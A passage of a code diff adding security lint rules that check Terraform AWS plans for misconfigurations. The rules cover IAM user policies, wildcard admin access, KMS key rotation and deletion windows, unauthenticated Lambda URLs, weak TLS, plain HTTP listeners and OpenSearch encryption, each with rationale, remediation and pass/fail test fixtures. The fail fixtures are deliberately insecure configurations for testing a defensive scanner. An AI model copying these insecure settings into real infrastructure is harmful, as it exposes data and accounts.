+            {"address": "aws_iam_policy.p", "mode": "managed", "type": "aws_iam_policy", "name": "p",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"name": "p"}, "after_unknown": {"policy": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/iam_policy_attached_to_user.plumb",
+      text: #"""
+      rule iam_policy_attached_to_user {
+        title "IAM policies are attached to groups or roles, not to users"
+        severity medium
+        category security
+        tags [terraform, aws, iam]
+        rationale """
+          Permissions attached directly to IAM users are invisible when reviewing groups and roles,
+          survive a person's change of team, and multiply with every user: access reviews miss them and
+          offboarding leaves them behind. Long-lived user credentials with their own policies are also
+          the usual source of leaked-key incidents.
+        """
+        remediation """
+          Attach the policy to a group (`aws_iam_group_policy_attachment`) and add the user to the group,
+          or better, to a role that people and workloads assume (IAM Identity Center for people).
+        """
+
+        for a in terraform.resource("aws_iam_user_policy", "aws_iam_user_policy_attachment", "aws_iam_policy_attachment")
+        when not is_null(a.after)
+        # aws_iam_user_policy and aws_iam_user_policy_attachment always target a user (even one whose name
+        # is known only after apply); aws_iam_policy_attachment may list users (blank names are ignored).
+        require type(a) == "aws_iam_policy_attachment"
+          else "'${a.address}' attaches a policy directly to user '${a.after.user}'" at a.after.user
+        let users = filter(u in default(a.after.users, []), not is_empty(u))
+        require count(users) == 0
+          else "'${a.address}' attaches a policy directly to user '${join(users, "', '")}'" at first(users)
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_iam_policy_attachment.ops", "mode": "managed", "type": "aws_iam_policy_attachment", "name": "ops",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"policy_arn": true},
+               "after": {"name": "ops", "groups": ["ops"], "roles": null, "users": [""]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_iam_user_policy.alice", "mode": "managed", "type": "aws_iam_user_policy", "name": "alice",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "excess", "policy": "{}", "user": ↓"alice"}}},
+            {"address": "aws_iam_policy_attachment.ops", "mode": "managed", "type": "aws_iam_policy_attachment", "name": "ops",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"policy_arn": true},
+               "after": {"name": "ops", "groups": null, "roles": null, "users": [↓"bob", "carol"]}}}]}
+        """ expect "'aws_iam_user_policy.alice' attaches a policy directly to user 'alice'"
+            expect "'aws_iam_policy_attachment.ops' attaches a policy directly to user 'bob', 'carol'"
+        example indeterminate "user created in the same plan" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_iam_policy_attachment.ops", "mode": "managed", "type": "aws_iam_policy_attachment", "name": "ops",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"policy_arn": true, "users": [true]},
+               "after": {"name": "ops", "groups": null, "roles": null, "users": [null]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/iam_policy_document_admin_wildcard.plumb",
+      text: #"""
+      rule iam_policy_document_admin_wildcard {
+        title "IAM policy documents do not allow every action on every resource"
+        severity critical
+        category security
+        tags [terraform, aws, iam, least-privilege]
+        rationale """
+          A `data "aws_iam_policy_document"` statement that allows `actions = ["*"]` on
+          `resources = ["*"]` renders a full administrator policy, whatever resource it is attached to
+          later: whoever holds it can read every secret, create users and keys for persistence, and
+          delete the account's infrastructure and backups.
+        """
+        remediation """
+          List the actions and resources the principal needs (IAM Access Analyzer can generate them
+          from CloudTrail activity), or restrict the statement with conditions.
+        """
+
+        for d in terraform.data("aws_iam_policy_document")
+        let admin = filter(s in d.values.statement,
+          default(s.effect, "Allow") == "Allow" and "*" in s.actions and "*" in s.resources)
+        require count(admin) == 0
+          else "'${d.address}' allows actions '*' on resources '*' (full administrator access)" at first(admin)
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [],
+           "prior_state": {"format_version": "1.0", "values": {"root_module": {"resources": [
+            {"address": "data.aws_iam_policy_document.read", "mode": "data", "type": "aws_iam_policy_document", "name": "read",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "values": {"json": "{}", "statement": [
+               {"actions": ["s3:GetObject"], "effect": "Allow", "resources": ["*"], "condition": [], "principals": []},
+               {"actions": ["*"], "effect": "Deny", "resources": ["*"], "condition": [], "principals": []}]}}]}}}}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [],
+           "prior_state": {"format_version": "1.0", "values": {"root_module": {"resources": [
+            {"address": "data.aws_iam_policy_document.admin", "mode": "data", "type": "aws_iam_policy_document", "name": "admin",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "values": {"json": "{}", "statement": [
+               ↓{"actions": ["*"], "effect": "Allow", "resources": ["*"], "condition": [], "principals": []}]}}]}}}}
+        """ expect "'data.aws_iam_policy_document.admin' allows actions '*' on resources '*'"
+        example indeterminate "document read during apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "data.aws_iam_policy_document.p", "mode": "data", "type": "aws_iam_policy_document", "name": "p",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["read"], "before": null,
+               "after": {"statement": [{"actions": ["*"], "effect": "Allow"}]},
+               "after_unknown": {"json": true, "statement": [{"resources": true}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/kms_key_deletion_window_short.plumb",
+      text: #"""
+      rule kms_key_deletion_window_short {
+        title "KMS keys keep a deletion window long enough to notice a mistake"
+        severity low
+        category security
+        tags [terraform, aws, kms]
+        rationale """
+          Deleting a KMS key makes every ciphertext under it unrecoverable: backups, snapshots, S3
+          objects, secrets. The waiting period between `ScheduleKeyDeletion` and the deletion is the
+          only chance to cancel an accidental or malicious deletion (an attacker with kms:* can destroy
+          data this way). Seven days, the minimum, is shorter than many alerting and holiday cycles.
+        """
+        remediation """
+          Set `deletion_window_in_days` to at least the `min_days` parameter (14 by default), or leave it
+          unset for AWS's default of 30 days.
+        """
+        param min_days: int = 14
+
+        for k in terraform.resource("aws_kms_key")
+        when not is_null(k.after)
+        require is_null(k.after.deletion_window_in_days) or not exists(k.after.deletion_window_in_days) or k.after.deletion_window_in_days >= param.min_days
+          else "'${k.address}' has deletion_window_in_days = ${k.after.deletion_window_in_days}, less than ${param.min_days}" at k.after.deletion_window_in_days
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_kms_key.a", "mode": "managed", "type": "aws_kms_key", "name": "a",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {}, "after": {"deletion_window_in_days": 30}}},
+            {"address": "aws_kms_key.b", "mode": "managed", "type": "aws_kms_key", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {}, "after": {"deletion_window_in_days": null}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_kms_key.a", "mode": "managed", "type": "aws_kms_key", "name": "a",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {}, "after": {"deletion_window_in_days": ↓7}}}]}
+        """ expect "'aws_kms_key.a' has deletion_window_in_days = 7, less than 14"
+        example indeterminate "window from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_kms_key.a", "mode": "managed", "type": "aws_kms_key", "name": "a",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {"deletion_window_in_days": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/kms_key_rotation_disabled.plumb",
+      text: #"""
+      rule kms_key_rotation_disabled {
+        title "KMS keys rotate their key material"
+        severity medium
+        category security
+        tags [terraform, aws, kms, encryption]
+        rationale """
+          Without automatic rotation a customer managed key uses the same key material for as long as it
+          exists, so every ciphertext ever produced depends on one secret; compliance frameworks (CIS,
+          PCI DSS) require yearly rotation. Rotation is transparent: old ciphertexts still decrypt.
+        """
+        remediation """
+          Set `enable_key_rotation = true` (and `rotation_period_in_days` if yearly is not enough).
+          Asymmetric and HMAC keys cannot rotate automatically and are not judged.
+        """
+
+        for k in terraform.resource("aws_kms_key")
+        when not is_null(k.after)
+        # Only symmetric encryption keys support automatic rotation. Older providers compute key_usage
+        # and the key spec when the configuration does not set them: the defaults then apply.
+        let configured = exists(k.provider.key)
+        when (configured and not exists(k.config.customer_master_key_spec) and is_unknown(k.after.customer_master_key_spec))
+          or default(k.after.customer_master_key_spec, "SYMMETRIC_DEFAULT") == "SYMMETRIC_DEFAULT"
+        when (configured and not exists(k.config.key_usage) and is_unknown(k.after.key_usage))
+          or default(k.after.key_usage, "ENCRYPT_DECRYPT") == "ENCRYPT_DECRYPT"
+        require k.after.enable_key_rotation == true
+          else "'${k.address}' has enable_key_rotation = ${default(k.after.enable_key_rotation, false)}" at k.after.enable_key_rotation
+          fix { set k.after.enable_key_rotation = true }
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_kms_key.data", "mode": "managed", "type": "aws_kms_key", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"customer_master_key_spec": "SYMMETRIC_DEFAULT", "key_usage": "ENCRYPT_DECRYPT", "enable_key_rotation": true}}},
+            {"address": "aws_kms_key.signing", "mode": "managed", "type": "aws_kms_key", "name": "signing",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"customer_master_key_spec": "RSA_2048", "key_usage": "SIGN_VERIFY", "enable_key_rotation": false}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_kms_key.data", "mode": "managed", "type": "aws_kms_key", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"customer_master_key_spec": "SYMMETRIC_DEFAULT", "key_usage": "ENCRYPT_DECRYPT", "enable_key_rotation": ↓false}}}]}
+        """ expect "'aws_kms_key.data' has enable_key_rotation = false"
+        example fail "key usage computed by an older provider" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_kms_key.data", "mode": "managed", "type": "aws_kms_key", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true, "key_usage": true},
+               "after": {"description": "data", "enable_key_rotation": ↓false}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_kms_key.data", "mode": "managed", "type": "aws_kms_key", "name": "data", "provider_config_key": "aws",
+             "expressions": {"description": {"constant_value": "data"}}}]}}}
+        """ expect "'aws_kms_key.data' has enable_key_rotation = false"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_kms_key.data", "mode": "managed", "type": "aws_kms_key", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"enable_key_rotation": true},
+               "after": {"customer_master_key_spec": "SYMMETRIC_DEFAULT", "key_usage": "ENCRYPT_DECRYPT"}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/lambda_function_url_unauthenticated.plumb",
+      text: #"""
+      rule lambda_function_url_unauthenticated {
+        title "Lambda function URLs require IAM authentication"
+        severity high
+        category security
+        tags [terraform, aws, lambda, iam]
+        rationale """
+          A function URL with `authorization_type = "NONE"` is a public HTTPS endpoint: anyone on the
+          internet can invoke the function, run up its cost and reach whatever its execution role can
+          reach, unless the function's own code authenticates every request.
+        """
+        remediation """
+          Set `authorization_type = "AWS_IAM"` and grant `lambda:InvokeFunctionUrl` to the callers, or
+          put the function behind API Gateway or CloudFront with an authorizer. If the endpoint must be
+          public (a webhook), verify signatures in the function and waive this finding with a reason.
+        """
+
+        for u in terraform.resource("aws_lambda_function_url")
+        when not is_null(u.after)
+        require u.after.authorization_type != "NONE"
+          else "'${u.address}' lets anyone invoke the function (authorization_type NONE)" at u.after.authorization_type
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_lambda_function_url.api", "mode": "managed", "type": "aws_lambda_function_url", "name": "api",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"function_url": true},
+               "after": {"function_name": "api", "authorization_type": "AWS_IAM"}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_lambda_function_url.api", "mode": "managed", "type": "aws_lambda_function_url", "name": "api",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"function_url": true},
+               "after": {"function_name": "api", "authorization_type": ↓"NONE"}}}]}
+        """ expect "'aws_lambda_function_url.api' lets anyone invoke the function (authorization_type NONE)"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_lambda_function_url.api", "mode": "managed", "type": "aws_lambda_function_url", "name": "api",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"authorization_type": true}, "after": {"function_name": "api"}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/lb_invalid_headers_not_dropped.plumb",
+      text: #"""
+      rule lb_invalid_headers_not_dropped {
+        title "Application load balancers drop invalid HTTP headers"
+        severity medium
+        category security
+        tags [terraform, aws, elb]
+        rationale """
+          Headers whose names are not valid HTTP tokens are forwarded to the targets unless the ALB drops
+          them. Back ends and proxies that parse them differently from the load balancer are open to
+          request smuggling and header-injection attacks (for example a `Transfer_Encoding` header
+          read as `Transfer-Encoding`).
+        """
+        remediation "Set `drop_invalid_header_fields = true` on the application load balancer."
+
+        for lb in terraform.resource("aws_lb", "aws_alb")
+        when not is_null(lb.after)
+        when default(lb.after.load_balancer_type, "application") == "application"
+        require lb.after.drop_invalid_header_fields == true
+          else "'${lb.address}' forwards invalid HTTP headers (drop_invalid_header_fields = ${default(lb.after.drop_invalid_header_fields, false)})" at lb.after.drop_invalid_header_fields
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_lb.web", "mode": "managed", "type": "aws_lb", "name": "web",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"load_balancer_type": "application", "drop_invalid_header_fields": true}}},
+            {"address": "aws_lb.nlb", "mode": "managed", "type": "aws_lb", "name": "nlb",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"load_balancer_type": "network", "drop_invalid_header_fields": false}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_alb.web", "mode": "managed", "type": "aws_alb", "name": "web",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"load_balancer_type": "application", "drop_invalid_header_fields": ↓false}}}]}
+        """ expect "'aws_alb.web' forwards invalid HTTP headers (drop_invalid_header_fields = false)"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_lb.web", "mode": "managed", "type": "aws_lb", "name": "web",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"drop_invalid_header_fields": true},
+               "after": {"load_balancer_type": "application"}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/lb_listener_outdated_tls_policy.plumb",
+      text: #"""
+      rule lb_listener_outdated_tls_policy {
+        title "Load balancer listeners do not accept TLS 1.0 or 1.1"
+        severity high
+        category security
+        tags [terraform, aws, elb, tls]
+        rationale """
+          TLS 1.0 and 1.1 are deprecated (RFC 8996): they rely on SHA-1 and CBC constructions with known
+          attacks (BEAST, POODLE variants, Lucky13), and PCI DSS forbids them. A security policy that
+          still offers them lets an active attacker or an old client downgrade the connection.
+          `ELBSecurityPolicy-2016-08`, long the default, is such a policy.
+        """
+        remediation """
+          Set `ssl_policy = "ELBSecurityPolicy-TLS13-1-2-2021-06"` (TLS 1.3 and 1.2), or
+          `ELBSecurityPolicy-TLS13-1-2-Res-2021-06` for the strictest cipher suites. The parameter
+          `weak_policy_prefixes` lists the policies considered outdated.
+        """
+        param weak_policy_prefixes: list<string> = [
+          "ELBSecurityPolicy-2015-05", "ELBSecurityPolicy-2016-08", "ELBSecurityPolicy-TLS-1-0-",
+          "ELBSecurityPolicy-TLS-1-1-", "ELBSecurityPolicy-FS-2018-06", "ELBSecurityPolicy-FS-1-1-",
+          "ELBSecurityPolicy-TLS13-1-0-", "ELBSecurityPolicy-TLS13-1-1-"]
+
+        for l in terraform.resource("aws_lb_listener", "aws_alb_listener")
+        when not is_null(l.after)
+        when l.after.protocol == "HTTPS" or l.after.protocol == "TLS"
+        require none(p in param.weak_policy_prefixes, starts_with(l.after.ssl_policy, p))
+          else "'${l.address}' uses ssl_policy '${l.after.ssl_policy}', which accepts TLS 1.0 or 1.1" at l.after.ssl_policy
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_lb_listener.https", "mode": "managed", "type": "aws_lb_listener", "name": "https",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"load_balancer_arn": true},
+               "after": {"port": 443, "protocol": "HTTPS", "ssl_policy": "ELBSecurityPolicy-TLS13-1-2-2021-06"}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_lb_listener.https", "mode": "managed", "type": "aws_lb_listener", "name": "https",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"load_balancer_arn": true},
+               "after": {"port": 443, "protocol": "HTTPS", "ssl_policy": ↓"ELBSecurityPolicy-2016-08"}}}]}
+        """ expect "'aws_lb_listener.https' uses ssl_policy 'ELBSecurityPolicy-2016-08', which accepts TLS 1.0 or 1.1"
+        example indeterminate "policy chosen by AWS at apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_lb_listener.https", "mode": "managed", "type": "aws_lb_listener", "name": "https",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"ssl_policy": true},
+               "after": {"port": 443, "protocol": "TLS"}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/lb_listener_plain_http.plumb",
+      text: ##"""
+      rule lb_listener_plain_http {
+        title "Load balancer listeners do not serve plain HTTP"
+        severity high
+        category security
+        tags [terraform, aws, elb, tls]
+        rationale """
+          A listener with protocol HTTP that forwards to targets (or authenticates users) carries
+          session cookies, tokens, passwords and personal data in clear text: anyone on the path (public
+          Wi-Fi, a compromised router) can read and change them. Plain HTTP is only acceptable to redirect
+          to HTTPS.
+        """
+        remediation """
+          Serve the application on an HTTPS listener (`protocol = "HTTPS"`, a `certificate_arn` and a
+          modern `ssl_policy`) and make the HTTP listener's default action a redirect:
+          `default_action { type = "redirect" redirect { protocol = "HTTPS" port = "443" status_code = "HTTP_301" } }`.
+        """
+
+        for l in terraform.resource("aws_lb_listener", "aws_alb_listener")
+        when not is_null(l.after)
+        when l.after.protocol == "HTTP"
+        let serving = filter(a in l.after.default_action,
+          not ((a.type == "redirect" and first(a.redirect).protocol == "HTTPS") or a.type == "fixed-response"))
+        require count(serving) == 0
+          else "'${l.address}' serves plain HTTP on port ${l.after.port} (default action '${first(serving).type}' instead of a redirect to HTTPS)" at first(serving).type
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_lb_listener.http", "mode": "managed", "type": "aws_lb_listener", "name": "http",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"load_balancer_arn": true},
+               "after": {"port": 80, "protocol": "HTTP", "default_action": [
+                 {"type": "redirect", "target_group_arn": null, "fixed_response": [], "redirect": [{"host": "#{host}", "path": "/#{path}", "port": "443", "protocol": "HTTPS", "query": "#{query}", "status_code": "HTTP_301"}]}]}}},
+            {"address": "aws_lb_listener.nlb", "mode": "managed", "type": "aws_lb_listener", "name": "nlb",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"load_balancer_arn": true},
+               "after": {"port": 5432, "protocol": "TCP", "default_action": [{"type": "forward", "redirect": []}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_alb_listener.web", "mode": "managed", "type": "aws_alb_listener", "name": "web",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"load_balancer_arn": true, "default_action": [{"target_group_arn": true}]},
+               "after": {"port": 80, "protocol": "HTTP", "default_action": [{"type": ↓"forward", "fixed_response": [], "redirect": []}]}}}]}
+        """ expect "'aws_alb_listener.web' serves plain HTTP on port 80 (default action 'forward' instead of a redirect to HTTPS)"
+        example indeterminate "action known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_lb_listener.web", "mode": "managed", "type": "aws_lb_listener", "name": "web",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"default_action": [{"type": true}]},
+               "after": {"port": 80, "protocol": "HTTP", "default_action": [{"redirect": []}]}}}]}
+        """
+      }
+
+      """##),
+    PolicySource(
+      path: "rules/security/terraform/aws/opensearch_encryption_at_rest_disabled.plumb",
+      text: #"""
+      rule opensearch_encryption_at_rest_disabled {
+        title "OpenSearch domains encrypt data at rest"
+        severity high
+        category security
+        tags [terraform, aws, opensearch, encryption]
+        rationale """
+          Without encryption at rest, a domain's indices, logs, swap files and automated snapshots are
+          stored in clear text; search clusters often hold copies of application data, logs with tokens
+          and personal data. Encryption can only be chosen when the domain is created (older engines).
+        """
+        remediation "Add `encrypt_at_rest { enabled = true }` (with `kms_key_id` for a customer managed key)."
+
+        for d in terraform.resource("aws_opensearch_domain", "aws_elasticsearch_domain")
+        when not is_null(d.after)
+        # The block is computed when the configuration does not write it: the API default is off.
+        let unset = exists(d.provider.key) and not exists(d.config.encrypt_at_rest) and is_unknown(d.after.encrypt_at_rest)
+        require not unset
+          else "'${d.address}' does not enable encryption at rest" at d.address
+        require unset or first(d.after.encrypt_at_rest).enabled == true
+          else "'${d.address}' has encryption at rest disabled" at first(d.after.encrypt_at_rest).enabled
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypt_at_rest": [{"kms_key_id": true}]},
+               "after": {"domain_name": "search", "encrypt_at_rest": [{"enabled": true}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"domain_name": "search", "encrypt_at_rest": [{"enabled": ↓false, "kms_key_id": ""}]}}},
+            {"address": ↓"aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypt_at_rest": true},
+               "after": {"domain_name": "logs"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs", "provider_config_key": "aws",
+             "expressions": {"domain_name": {"constant_value": "logs"}}}]}}}
+        """ expect "'aws_opensearch_domain.search' has encryption at rest disabled"
+            expect "'aws_elasticsearch_domain.logs' does not enable encryption at rest"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypt_at_rest": [{"enabled": true}]},
+               "after": {"domain_name": "search", "encrypt_at_rest": [{}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/opensearch_https_not_enforced.plumb",
+      text: #"""
+      rule opensearch_https_not_enforced {
+        title "OpenSearch domains require HTTPS"
+        severity high
+        category security
+        tags [terraform, aws, opensearch, tls]
+        rationale """
+          Unless the domain enforces HTTPS, clients may send queries, documents and signed requests
+          (or basic-auth passwords with fine-grained access control) over plain HTTP, readable and
+          modifiable by anyone on the network path.
+        """
+        remediation """
+          Add `domain_endpoint_options { enforce_https = true, tls_security_policy =
+          "Policy-Min-TLS-1-2-2019-07" }` to the domain.
+        """
+
+        for d in terraform.resource("aws_opensearch_domain", "aws_elasticsearch_domain")
+        when not is_null(d.after)
+        # The block is computed when the configuration does not write it: HTTPS is then not enforced.
+        let unset = exists(d.provider.key) and not exists(d.config.domain_endpoint_options) and is_unknown(d.after.domain_endpoint_options)
+        require not unset
+          else "'${d.address}' does not enforce HTTPS (no domain_endpoint_options)" at d.address
+        require unset or first(d.after.domain_endpoint_options).enforce_https == true
+          else "'${d.address}' accepts plain HTTP (enforce_https = ${first(d.after.domain_endpoint_options).enforce_https})" at first(d.after.domain_endpoint_options).enforce_https
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"domain_name": "search", "domain_endpoint_options": [{"enforce_https": true, "tls_security_policy": "Policy-Min-TLS-1-2-2019-07"}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"domain_name": "search", "domain_endpoint_options": [{"enforce_https": ↓false}]}}},
+            {"address": ↓"aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"domain_endpoint_options": true},
+               "after": {"domain_name": "logs"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs", "provider_config_key": "aws",
+             "expressions": {"domain_name": {"constant_value": "logs"}}}]}}}
+        """ expect "'aws_opensearch_domain.search' accepts plain HTTP (enforce_https = false)"
+            expect "'aws_elasticsearch_domain.logs' does not enforce HTTPS"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"domain_endpoint_options": [{"enforce_https": true}]},
+               "after": {"domain_name": "search", "domain_endpoint_options": [{}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/opensearch_node_to_node_encryption_disabled.plumb",
+      text: #"""
+      rule opensearch_node_to_node_encryption_disabled {
+        title "OpenSearch domains encrypt traffic between nodes"
+        severity medium
+        category security
+        tags [terraform, aws, opensearch, encryption]
+        rationale """
+          Without node-to-node encryption, shard replication and search traffic between the domain's
+          nodes travels in clear text inside the VPC, where a compromised instance or a mirrored network
+          interface can read documents and credentials. Fine-grained access control requires it.
+        """
+        remediation "Add `node_to_node_encryption { enabled = true }` to the domain."
+
+        for d in terraform.resource("aws_opensearch_domain", "aws_elasticsearch_domain")
+        when not is_null(d.after)
+        let unset = exists(d.provider.key) and not exists(d.config.node_to_node_encryption) and is_unknown(d.after.node_to_node_encryption)
+        require not unset
+          else "'${d.address}' does not enable node-to-node encryption" at d.address
+        require unset or first(d.after.node_to_node_encryption).enabled == true
+          else "'${d.address}' has node-to-node encryption disabled" at first(d.after.node_to_node_encryption).enabled
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"domain_name": "search", "node_to_node_encryption": [{"enabled": true}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
